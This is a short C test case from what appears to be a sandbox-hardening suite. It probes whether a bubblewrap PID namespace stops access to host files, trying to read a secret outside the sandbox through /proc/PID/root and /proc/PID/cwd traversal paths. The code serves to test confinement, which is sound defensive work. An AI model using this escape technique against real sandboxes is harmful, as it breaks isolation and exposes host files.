/* SPDX-License-Identifier: Apache-2.0 */
/*
 * wall: PID namespace: /proc shows no process of the host
 * cve: none
 * off user: host
 * off root: bwrap --ro-bind / / --tmpfs {base} --bind {project} {project}
 *	--proc /proc --cap-add ALL
 * as: user root
 * args: {T}/outside
 * setup: victim
 *
 * /proc/PID/root and cwd of any process that has the host's files.
 */
#include "attack.h"
#include <dirent.h>

int main(int argc, char **argv)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	char path[512];
	int seen = 0;

	if (argc < 3 || !proc)
		broken("arguments");
	while ((entry = readdir(proc))) {
		if (!strtol(entry->d_name, NULL, 10))
			continue;
		seen++;
		snprintf(path, sizeof(path), "/proc/%.16s/root%s",
			 entry->d_name, argv[2]);
		if (reads_secret(AT_FDCWD, path))
			through("by /proc/PID/root");
		snprintf(path, sizeof(path), "/proc/%.16s/cwd/../../outside",
			 entry->d_name);
		if (reads_secret(AT_FDCWD, path))
			through("by /proc/PID/cwd");
	}
	refused("%d processes seen", seen);
}
